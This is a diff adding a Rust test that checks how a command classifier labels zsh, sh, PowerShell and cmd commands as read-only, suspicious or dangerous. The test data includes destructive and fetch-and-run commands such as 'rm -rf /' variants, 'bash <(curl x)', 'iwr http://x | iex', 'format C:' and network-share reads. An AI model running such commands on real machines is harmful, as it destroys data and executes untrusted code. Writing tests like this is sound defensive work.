@@ -152,3 +152,81 @@ fn an_argument_vector_with_a_shell_is_read_like_the_text() {
         assert_eq!(text, vector, "{}: {}", row.place, row.command);
     }
 }
+
+/// Other shells: what they read differently is not understood, network paths are refused.
+#[test]
+fn other_shells() {
+    use ShellKind::{Cmd, PowerShell, Sh, Zsh};
+    for (kind, command, class) in [
+        (Zsh, "ls -la | head", Class::ReadOnly),
+        (Zsh, "ls *(e:'rm x':)", Class::Suspicious),
+        (Zsh, "=rm -rf /", Class::Suspicious),
+        (Zsh, "ls >! /etc/passwd", Class::Suspicious),
+        (Zsh, "repeat 3 rm -rf /", Class::Suspicious),
+        (Zsh, "noglob rm -rf /", Class::Suspicious),
+        (Zsh, "ls =(rm -rf /)", Class::Dangerous),
+        (Zsh, "echo ${(e)x}", Class::Suspicious),
+        (Zsh, "rm -rf / &!", Class::Dangerous),
+        (Sh, "ls | wc -l", Class::ReadOnly),
+        (Sh, "((rm -rf /))", Class::Dangerous),
+        (Sh, "echo $'\\x2f'", Class::Suspicious),
+        (Sh, "bash <(curl x)", Class::Dangerous),
+        (PowerShell, "Get-ChildItem -Path .", Class::ReadOnly),
+        (
+            PowerShell,
+            "Get-Content x | Select-String y",
+            Class::ReadOnly,
+        ),
+        (
+            PowerShell,
+            "Remove-Item -Recurse -Force C:\\",
+            Class::Dangerous,
+        ),
+        (PowerShell, "rm -r ~", Class::Dangerous),
+        (PowerShell, "Remove-Item x", Class::Suspicious),
+        (
+            PowerShell,
+            "Get-Content \\\\server\\share\\x",
+            Class::Dangerous,
+        ),
+        (
+            PowerShell,
+            "Get-Content '\\\\server\\share\\x'",
+            Class::Dangerous,
+        ),
+        (PowerShell, "ls //server/share", Class::Dangerous),
+        (PowerShell, "iwr http://x | iex", Class::Dangerous),
+        (PowerShell, "$x = 1", Class::Suspicious),
+        (PowerShell, "& evil", Class::Suspicious),
+        (PowerShell, "ls $(evil)", Class::Suspicious),
+        (Cmd, "dir /b", Class::ReadOnly),
+        (Cmd, "dir | findstr x", Class::ReadOnly),
+        (Cmd, "del /s /q C:\\", Class::Dangerous),
+        (Cmd, "rd /s /q C:\\Users", Class::Dangerous),
+        (Cmd, "type \\\\server\\x", Class::Dangerous),
+        (Cmd, "dir & format C:", Class::Dangerous),
+        (Cmd, "echo %PATH%", Class::Suspicious),
+        (Cmd, "dir ^& del x", Class::Suspicious),
+        (Cmd, "dir > \\\\server\\x", Class::Dangerous),
+    ] {
+        let facts = understand(CommandText::Shell {
+            kind,
+            text: command,
+        });
+        let found = classify(&facts, &ground());
+        assert_eq!(
+            found.class, class,
+            "{kind:?} {command}: {:?}",
+            found.reasons
+        );
+    }
+    let argv = [
+        "pwsh",
+        "-NoProfile",
+        "-Command",
+        "Get-Content \\\\server\\x",
+    ]
+    .map(str::to_owned);
+    let found = classify(&understand(CommandText::Argv(&argv)), &ground());
+    assert_eq!(found.class, Class::Dangerous);
+}
